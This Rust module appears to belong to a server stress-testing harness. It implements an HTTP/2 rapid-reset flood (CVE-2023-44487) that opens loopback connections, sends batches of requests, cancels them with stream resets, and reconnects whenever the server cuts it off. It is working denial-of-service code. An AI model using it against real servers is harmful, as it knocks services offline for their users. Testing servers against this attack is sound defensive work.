//! HTTP/2 streams that are opened and immediately reset (rapid reset, CVE-2023-44487).

use std::net::Ipv4Addr;

use h2::Reason;
use h2::client::SendRequest;
use http::Request;

use super::{Target, pace, start};
use crate::Result;
use crate::honest::connect;

/// hyper closes a connection that resets too many unprocessed streams, after which the attackers reconnect.
pub async fn resets(target: Target, per_second: u64) {
    for lane in 0..CONNECTIONS {
        let target = target.clone();
        start(async move {
            let from = Ipv4Addr::new(127, 68, 0, lane as u8 + 1);
            let mut pace = pace(per_second as f64 / (CONNECTIONS * BATCH) as f64);
            let mut connection = None;
            loop {
                pace.tick().await;
                if burst(&mut connection, from, &target).await.is_err() {
                    target.tally.cut();
                    connection = None;
                }
            }
        });
    }
}

async fn burst(connection: &mut Option<SendRequest<bytes::Bytes>>, from: Ipv4Addr, target: &Target) -> Result<()> {
    let ready = match connection.take() {
        Some(ready) => ready,
        None => {
            let (ready, work) = h2::client::handshake(connect(from, target.server).await?).await?;
            start(async move { drop(work.await) });
            ready
        }
    };
    let mut ready = ready.ready().await?;
    for i in 0..BATCH {
        // Half of the streams are reset while their requests are waiting.
        let path = if i % 2 == 0 { "api" } else { "wait" };
        let request = Request::get(format!("http://resets/{path}")).header("x-api-key", "resets").body(())?;
        let (_response, mut stream) = ready.send_request(request, true)?;
        target.tally.sent(1);
        if i % 4 > 1 {
            // Let the request be sent before the reset.
            tokio::task::yield_now().await;
        }
        stream.send_reset(Reason::CANCEL);
        ready = ready.ready().await?;
    }
    *connection = Some(ready);
    Ok(())
}

const CONNECTIONS: u64 = 2;
const BATCH: u64 = 10;
